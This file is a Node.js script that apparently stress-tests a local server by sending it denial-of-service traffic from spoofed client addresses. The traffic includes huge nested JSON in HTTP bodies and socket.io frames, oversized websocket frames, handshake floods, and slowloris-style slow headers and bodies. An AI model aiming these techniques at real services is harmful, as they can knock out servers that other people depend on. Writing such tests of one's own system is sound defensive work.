/*
 * attackers.mjs KIND PORT SECONDS [TOKEN] - strangers at four addresses, each
 * doing the same for so long; some kinds need the token of somebody who has
 * signed in. nginx has to believe us about addresses: real_ip_from = 127.0.0.1.
 * It prints "tried N". Imported, it is the list of kinds.
 */
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { pathToFileURL } from 'node:url';

const ADDRESSES = ['203.0.113.2', '203.0.113.3', '203.0.113.4', '203.0.113.5'];
const AT_ONCE = 8; // of each address, where one try follows another
const HELD = 275; // of each, where all are held open

/* What starts a request, up to and with its headers. */
const ask = (what, from, ...headers) =>
	[`${what} HTTP/1.1`, 'Host: 127.0.0.1', `X-Forwarded-For: ${from}`, ...headers, '', ''].join('\r\n');
const upgrade = (from) => ask('GET /socket.io/?EIO=4&transport=websocket', from, 'Connection: Upgrade',
	'Upgrade: websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==');
const handshake = (from) => ask('GET /socket.io/?EIO=4&transport=polling', from, 'Connection: close');
const post = (target, from, token, length) => ask(`POST ${target}`, from, 'Content-Type: application/json',
	...(token ? [`Authorization: Bearer ${token}`] : []), `Content-Length: ${length}`);

/* A masked frame; the mask is zero. */
function frame(payload, opcode = 1) {
	const data = Buffer.from(payload);
	const head = Buffer.alloc(14);
	head[0] = 0x80 | opcode;
	head[1] = 0x80 | 127;
	head.writeBigUInt64BE(BigInt(data.length), 2);
	return Buffer.concat([head, data]);
}

const trees = (before, after, count = 330_000) => `${before}[${'{},'.repeat(count)}{}]${after}`;
const TREE = trees('{"x":', '}');
const ATTACHMENTS = [frame('454-["x"]'), ...Array.from({ length: 4 }, () => frame(Buffer.alloc(980_000), 2)),
	frame(Buffer.alloc(900_000), 2).subarray(0, 450_000)];
const EVENTS = Array.from({ length: 20 }, () => frame(trees('42["typing",', ']', 30_000)));

/* What a socket is sent, from there and with that token. held: it stays open as
 * long as it may; drip: what it is sent more, every so many ms. */
export const kinds = {
	'events of {},{},.. before CONNECT': { sends: (from) => [upgrade(from), frame(trees('42["x",', ']'))] },
	'CONNECT of {},{},..': { sends: (from) => [upgrade(from), frame(trees('40{"x":', '}'))] },
	'events of {},{},.. of a user': {
		sends: (from, token) => [upgrade(from), frame(`40{"token":"${token}"}`), ...EVENTS],
	},
	'bodies of {},{},..': { sends: (from) => [post('/api/auth/login', from, '', TREE.length), TREE] },
	'bodies of {},{},.. of a user': { sends: (from, token) => [post('/api/sync', from, token, TREE.length), TREE] },
	'attachments without end': { sends: (from) => [upgrade(from), ...ATTACHMENTS], held: true },
	'polling handshakes': { sends: (from) => [handshake(from)] },
	'slow heads': {
		sends: (from) => [ask('GET /api/health', from).slice(0, -2)], held: true, drip: 'X: 1\r\n', ms: 2000,
	},
	'slow bodies': { sends: (from) => [post('/api/messages', from, '', 100_000), '{'], held: true, drip: ' ', ms: 7000 },
};

/* One socket: until it is ended, or time is up. */
function once({ sends, held, drip, ms }, address, token, port, until) {
	return new Promise((resolve) => {
		const socket = connect({ port, host: '127.0.0.1' });
		const timers = [setTimeout(() => socket.destroy(), held ? until - Date.now() : 2000)];
		socket.on('connect', () => {
			for (const text of sends(address, token))
				socket.write(text);
			if (drip !== undefined)
				timers.push(setInterval(() => socket.write(drip), ms));
		});
		socket.on('data', (data) => {
			if (!held && !data.toString('latin1').startsWith('HTTP/1.1 101'))
				socket.destroy();
		});
		socket.on('error', () => {});
		socket.on('close', () => {
			timers.forEach(clearTimeout);
			resolve();
		});
	});
}

async function attack(kind, port, seconds, token) {
	const until = Date.now() + seconds * 1000;
	const many = kind.held ? HELD : AT_ONCE;
	let tried = 0;
	const one = async (address) => {
		while (Date.now() < until) {
			tried++;
			await once(kind, address, token, port, until);
			if (kind.held)
				await sleep(100);
		}
	};
	await Promise.all(ADDRESSES.flatMap((address) => Array.from({ length: many }, () => one(address))));
	console.log(`tried ${tried}`);
}

if (import.meta.url === pathToFileURL(process.argv[1]).href) {
	const [kind, port, seconds, token] = process.argv.slice(2);
	await attack(kinds[kind], Number(port), Number(seconds), token);
	process.exit(0);
}
